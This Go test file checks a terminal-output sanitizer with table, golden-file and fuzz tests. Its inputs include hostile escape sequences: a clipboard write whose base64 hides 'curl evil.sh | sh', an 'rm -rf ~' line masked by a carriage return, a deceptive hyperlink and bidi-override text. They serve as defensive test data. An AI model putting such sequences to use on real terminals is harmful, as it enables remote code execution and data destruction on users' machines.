// SPDX-License-Identifier: MIT

package ui

import (
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

var update = flag.Bool("update", false, "rewrite golden files under testdata/")

// golden compares got with testdata/name, or rewrites it with -update.
func golden(t *testing.T, name, got string) {
	t.Helper()
	path := filepath.Join("testdata", name)
	if *update {
		require.NoError(t, os.MkdirAll(filepath.Dir(path), 0o755))
		require.NoError(t, os.WriteFile(path, []byte(got), 0o644))
	}
	want, err := os.ReadFile(path)
	require.NoError(t, err, "run with -update to create it")
	assert.Equal(t, string(want), got)
}

func TestSanitize(t *testing.T) {
	tests := []struct {
		name, in, want string
	}{
		{"plain", "hello, world", "hello, world"},
		{"newline and tab kept", "a\tb\nc", "a\tb\nc"},
		{"unicode kept", "héllo 世界 🚀", "héllo 世界 🚀"},
		{"zwj emoji kept", "👩\u200d💻", "👩\u200d💻"},
		{"sgr kept", "\x1b[1;31mred\x1b[0m", "\x1b[1;31mred\x1b[0m"},
		{"sgr empty params kept", "\x1b[mx", "\x1b[mx"},
		{"sgr with colon dropped", "\x1b[38:2::1:2:3mx", "x"},
		{"sgr private marker dropped", "\x1b[?1mx", "x"},
		{"sgr with intermediate dropped", "\x1b[1 mx", "x"},
		{"oversized sgr dropped", "\x1b[" + strings.Repeat("1;", 40) + "mx", "x"},
		{"cursor up dropped", "a\x1b[2Ab", "ab"},
		{"erase screen dropped", "\x1b[2J\x1b[Hx", "x"},
		{"dsr query dropped", "\x1b[6nx", "x"},
		{"mode set dropped", "\x1b[?1049h\x1b[?25lx", "x"},
		{"osc title bel", "\x1b]0;pwned\x07x", "x"},
		{"osc title st", "\x1b]2;pwned\x1b\\x", "x"},
		{"osc 52 clipboard", "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07after", "after"},
		{"osc 8 hyperlink", "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\", "click"},
		{"osc c1 st", "\x1b]0;t\u009cx", "x"},
		{"osc aborted by can", "\x1b]0;t\x18x", "x"},
		{"osc cut by new esc", "\x1b]0;t\x1b[1mx", "\x1b[1mx"},
		{"unterminated osc swallowed", "a\x1b]0;never ends", "a"},
		{"dcs", "\x1bPq#0;2;0;0;0\x1b\\x", "x"},
		{"apc", "\x1b_Gf=100;AAAA\x1b\\x", "x"},
		{"pm and sos", "\x1b^pm\x1b\\\x1bXsos\x1b\\x", "x"},
		{"reset and charset", "\x1bc\x1b(0\x1b#8x", "x"},
		{"save restore cursor", "\x1b7a\x1b8", "a"},
		{"lone esc at end", "x\x1b", "x"},
		{"esc before control", "\x1b\nx", "\nx"},
		{"unterminated csi", "x\x1b[12", "x"},
		{"csi broken by newline", "\x1b[1\nx", "\nx"},
		{"c1 csi dropped whole", "a\u009b2Jb", "ab"},
		{"c1 osc dropped whole", "\u009d0;title\u009cok", "ok"},
		{"c1 other dropped", "a\u0085b\u0084c", "abc"},
		{"raw c1 byte is invalid utf8", "a\x9bb", "a\ufffdb"},
		{"invalid utf8", "a\xff\xfeb", "a\ufffd\ufffdb"},
		{"truncated utf8", "a\xe4\xb8", "a\ufffd\ufffd"},
		{"crlf becomes lf", "a\r\nb", "a\nb"},
		{"bare cr becomes lf", "rm -rf ~\rls -l   ", "rm -rf ~\nls -l   "},
		{"c0 dropped", "a\x00b\x07c\x08d\x7fe", "abcde"},
		{"bidi override dropped", "access\u202e\u2066level\u2069", "accesslevel"},
		{"line separator dropped", "a\u2028b", "ab"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := Sanitize(tt.in)
			assert.Equal(t, tt.want, got)
			assert.Equal(t, got, Sanitize(got), "idempotent")
		})
	}
}

func TestPlainTextDropsColour(t *testing.T) {
	assert.Equal(t, "red", plainText("\x1b[31mred\x1b[0m"))
}

// TestSanitizeGolden runs a file of hostile terminal input through Sanitize. The golden
// file is quoted so its escape bytes are reviewable.
func TestSanitizeGolden(t *testing.T) {
	in, err := os.ReadFile(filepath.Join("testdata", "sanitize", "nasty.input"))
	require.NoError(t, err)
	var b strings.Builder
	for i, ln := range strings.SplitAfter(string(in), "\n") {
		if ln == "" {
			continue
		}
		// the input file spells bytes as Go escapes (\x1b, \u009b) so it stays editable
		raw := unescapeFixture(t, strings.TrimSuffix(ln, "\n"))
		b.WriteString(quoteLine(i+1, Sanitize(raw)))
	}
	golden(t, "sanitize/nasty.golden", b.String())
}

func unescapeFixture(t *testing.T, line string) string {
	t.Helper()
	s, err := strconv.Unquote(`"` + line + `"`)
	require.NoError(t, err, "fixture line %q", line)
	return s
}

func quoteLine(n int, s string) string {
	return fmt.Sprintf("%02d %s\n", n, strconv.Quote(s))
}

func FuzzSanitize(f *testing.F) {
	for _, s := range []string{
		"", "plain", "\x1b[31mred\x1b[0m", "\x1b]52;c;AAAA\x07", "\x1b[2J", "\u009b31m",
		"\x1bP\x1b\\", "\xff\xfe", "a\r\nb\rc", "\x1b[1;2;3m\x1b]8;;u\x1b\\l", "\x1b\x1b[[m",
		"\xc2\x9b1m", "\x1b]0;\xc2", "\u202e",
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, in string) {
		out := Sanitize(in)
		require.True(t, utf8.ValidString(out), "valid UTF-8")
		for i, r := range out {
			require.False(t, r >= 0x80 && r < 0xa0, "C1 control %U at %d", r, i)
			require.False(t, r == '\r' || (r < 0x20 && r != '\n' && r != '\t' && r != esc) || r == 0x7f,
				"control %U at %d", r, i)
		}
		requireOnlySGR(t, out)
		require.Equal(t, out, Sanitize(out), "idempotent")
		plain := plainText(in)
		require.NotContains(t, plain, "\x1b")
	})
}

// requireOnlySGR fails unless every ESC in s starts a complete ESC [ digits/; m.
func requireOnlySGR(t *testing.T, s string) {
	t.Helper()
	for i := 0; i < len(s); i++ {
		if s[i] != esc {
			continue
		}
		require.Less(t, i+1, len(s), "ESC at end")
		require.Equal(t, byte('['), s[i+1], "ESC not followed by [ at %d in %q", i, s)
		j := i + 2
		for j < len(s) && (s[j] >= '0' && s[j] <= '9' || s[j] == ';') {
			j++
		}
		require.Less(t, j, len(s), "unterminated SGR in %q", s)
		require.Equal(t, byte('m'), s[j], "non-SGR CSI in %q", s)
		i = j
	}
}
